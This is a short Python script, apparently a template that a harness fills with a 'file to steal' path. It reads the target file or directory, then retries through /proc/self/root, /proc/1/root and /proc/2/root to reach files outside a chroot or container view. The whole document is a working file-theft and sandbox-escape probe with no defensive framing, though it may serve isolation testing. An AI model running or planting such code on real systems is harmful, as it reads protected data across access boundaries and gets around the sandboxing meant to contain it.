# Prepended: PATH = "<file to steal>"
import os

try:
    if os.path.isdir(PATH):
        print("READ", PATH, os.listdir(PATH))
    else:
        with open(PATH, "rb") as handle:
            print("READ", PATH, handle.read(200))
except OSError as exc:
    print(f"denied {PATH}: {type(exc).__name__}")
for via in (f"/proc/self/root{PATH}", f"/proc/1/root{PATH}", f"/proc/2/root{PATH}"):
    try:
        with open(via, "rb") as handle:
            print("READ", via, handle.read(200))
    except OSError:
        pass
